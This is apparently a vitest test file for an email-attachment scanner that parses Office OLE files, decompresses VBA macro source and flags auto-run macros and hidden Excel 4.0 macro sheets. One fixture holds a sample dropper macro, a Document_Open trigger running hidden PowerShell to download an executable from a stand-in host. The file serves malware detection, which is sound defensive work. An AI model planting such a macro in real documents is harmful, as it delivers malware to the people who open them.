import CFB from 'cfb';
import { describe, expect, it } from 'vitest';
import {
  excel4MacroSheets,
  extractVbaSource,
  inspectOle,
  looksLikeOle,
} from '../../../src/message/attachments/ole.js';
import { decompressOvba, parseVbaDir } from '../../../src/message/attachments/ovba.js';
import { makeVbaOle, ovbaLiteral, vbaDir } from './helpers.js';

const hex = (s: string) => Uint8Array.from(Buffer.from(s.replace(/\s+/g, ''), 'hex'));

describe('decompressOvba', () => {
  // The three examples of MS-OVBA §3.2.
  it('decompresses a container without copy tokens', () => {
    const out = decompressOvba(
      hex('01 19 B0 00 61 62 63 64 65 66 67 68 00 69 6A 6B 6C 6D 6E 6F 70 00 71 72 73 74 75 76 2E'),
    );
    expect(Buffer.from(out).toString('latin1')).toBe('abcdefghijklmnopqrstuv.');
  });
  it('decompresses copy tokens', () => {
    const out = decompressOvba(
      hex(
        '01 2F B0 00 23 61 61 61 62 63 64 65 82 66 00 70 61 67 68 69 6A 01 38 08 61 6B 6C 00 30 6D 6E 6F 70 06 71 02 70 04 10 72 73 74 75 76 10 77 78 79 7A 00 3C',
      ),
    );
    expect(Buffer.from(out).toString('latin1')).toBe(
      '#aaabcdefaaaaghijaaaaaklaaamnopqaaaaaaaaaaaarstuvwxyzaaa',
    );
  });
  it('decompresses a long run from one copy token', () => {
    expect(Buffer.from(decompressOvba(hex('01 03 B0 02 61 45 00'))).toString('latin1')).toBe('a'.repeat(73));
  });
  it('respects the output cap and rejects a bad signature or a token reaching before the data', () => {
    expect(decompressOvba(hex('01 03 B0 02 61 45 00'), 0, 10)).toHaveLength(10);
    expect(() => decompressOvba(hex('02 03 B0 02 61 45 00'))).toThrow(/not an MS-OVBA/);
    expect(() => decompressOvba(hex('01 03 B0 01 45 00'))).toThrow(/corrupt/);
  });
  it('round-trips the literal-only encoder used to build fixtures', () => {
    const text = Buffer.from('Sub AutoOpen()\r\nEnd Sub\r\n'.repeat(20), 'latin1');
    expect(Buffer.from(decompressOvba(ovbaLiteral(text)))).toEqual(text);
  });
});

describe('parseVbaDir', () => {
  it('finds module streams and offsets, minding the PROJECTVERSION size quirk', () => {
    expect(parseVbaDir(vbaDir(['ThisDocument', 'Module1']))).toEqual([
      { stream: 'ThisDocument', textOffset: 0 },
      { stream: 'Module1', textOffset: 0 },
    ]);
  });
  it('survives truncation', () => {
    const dir = vbaDir(['Module1']);
    for (let n = 0; n < dir.length; n += 7) expect(() => parseVbaDir(dir.subarray(0, n))).not.toThrow();
  });
});

describe('inspectOle', () => {
  it('recognises the OLE signature', () => {
    expect(looksLikeOle(makeVbaOle({ Module1: 'x' }))).toBe(true);
    expect(looksLikeOle(Buffer.from('PK'))).toBe(false);
  });
  it('finds macros, auto-run entry points and dropper calls in a Word document', () => {
    const doc = makeVbaOle({
      ThisDocument:
        'Attribute VB_Name = "ThisDocument"\r\nSub Document_Open()\r\n  Module1.Go\r\nEnd Sub\r\n',
      Module1:
        'Sub Go()\r\n  Set o = CreateObject("WScript.Shell")\r\n  o.Run "powershell -w hidden -c iwr https://drop.example/p.exe"\r\nEnd Sub\r\n',
    });
    const r = inspectOle(doc);
    expect(r.problems).toEqual([]);
    const codes = r.observations.map((o) => o.code);
    expect(codes).toEqual(['vba-macro', 'macro-autoexec', 'macro-suspicious-calls']);
    expect(r.observations[0].evidence).toMatchObject({
      modules: ['ThisDocument', 'Module1'],
      sourceRecovered: true,
    });
    expect(r.observations[1].evidence).toMatchObject({ triggers: ['Document_Open'] });
    expect(r.observations[2].evidence?.calls).toEqual(
      expect.arrayContaining(['CreateObject', 'WScript.Shell', 'powershell']),
    );
    expect(r.urls).toEqual(['https://drop.example/p.exe']);
    expect(extractVbaSource(doc).map((m) => m.name)).toEqual(['ThisDocument', 'Module1']);
  });
  it('reports a harmless macro without calling it auto-run', () => {
    const r = inspectOle(makeVbaOle({ Module1: 'Function Add(a, b)\r\n  Add = a + b\r\nEnd Function\r\n' }));
    expect(r.observations.map((o) => o.code)).toEqual(['vba-macro']);
  });
  it('says nothing about an OLE file without a VBA project', () => {
    const cfb = CFB.utils.cfb_new();
    CFB.utils.cfb_add(cfb, '/WordDocument', Buffer.alloc(100));
    expect(inspectOle(Buffer.from(CFB.write(cfb, { type: 'buffer' }) as Uint8Array)).observations).toEqual(
      [],
    );
  });
  it('flags a password-protected Office document', () => {
    const cfb = CFB.utils.cfb_new();
    CFB.utils.cfb_add(cfb, '/EncryptionInfo', Buffer.alloc(64));
    CFB.utils.cfb_add(cfb, '/EncryptedPackage', Buffer.alloc(4096));
    const r = inspectOle(Buffer.from(CFB.write(cfb, { type: 'buffer' }) as Uint8Array));
    expect(r.observations.map((o) => o.code)).toEqual(['encrypted-document']);
  });
  it('still reports the macro project when its source is corrupt', () => {
    const cfb = CFB.utils.cfb_new();
    CFB.utils.cfb_add(cfb, '/Macros/VBA/_VBA_PROJECT', Buffer.alloc(7));
    CFB.utils.cfb_add(cfb, '/Macros/VBA/dir', Buffer.from('garbage that is not compressed'));
    const r = inspectOle(Buffer.from(CFB.write(cfb, { type: 'buffer' }) as Uint8Array));
    expect(r.observations.map((o) => o.code)).toEqual(['vba-macro']);
    expect(r.problems[0]).toMatch(/could not be decompressed/);
  });
  it('turns a damaged file into a problem', () => {
    const r = inspectOle(Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(100, 0xff)]));
    expect(r.observations).toEqual([]);
    expect(r.problems[0]).toMatch(/could not be opened/);
  });
});

/** A BIFF8 record: id, length, data. */
const biff = (id: number, data: number[]) => [
  id & 0xff,
  id >> 8,
  data.length & 0xff,
  data.length >> 8,
  ...data,
];
/** BOUNDSHEET: stream position (4), visibility (0 visible, 1 hidden, 2 very hidden), sheet type (0 sheet, 1 macro). */
const boundsheet = (state: number, type: number, name: string) =>
  biff(0x0085, [0, 0, 0, 0, state, type, name.length, 0, ...Buffer.from(name, 'latin1')]);

describe('Excel 4.0 macro sheets', () => {
  const stream = Uint8Array.from([
    ...biff(0x0809, [0, 6, 5, 0, 0, 0, 0, 0]), // BOF
    ...boundsheet(0, 0, 'Sheet1'),
    ...boundsheet(2, 1, 'Macro1'),
    ...biff(0x000a, []), // EOF
  ]);
  it('finds macro sheets and whether they are hidden', () => {
    expect(excel4MacroSheets(stream)).toEqual([{ hidden: true }]);
    expect(excel4MacroSheets(Uint8Array.from(boundsheet(0, 0, 'Sheet1')))).toEqual([]);
    expect(excel4MacroSheets(stream.subarray(0, 17))).toEqual([]);
  });
  it('reports them from the Workbook stream of an .xls', () => {
    const cfb = CFB.utils.cfb_new();
    CFB.utils.cfb_add(cfb, '/Workbook', Buffer.from(stream));
    const r = inspectOle(Buffer.from(CFB.write(cfb, { type: 'buffer' }) as Uint8Array));
    expect(r.observations).toEqual([
      expect.objectContaining({ code: 'xlm-macro', evidence: { sheets: 1, hidden: 1 } }),
    ]);
  });
});
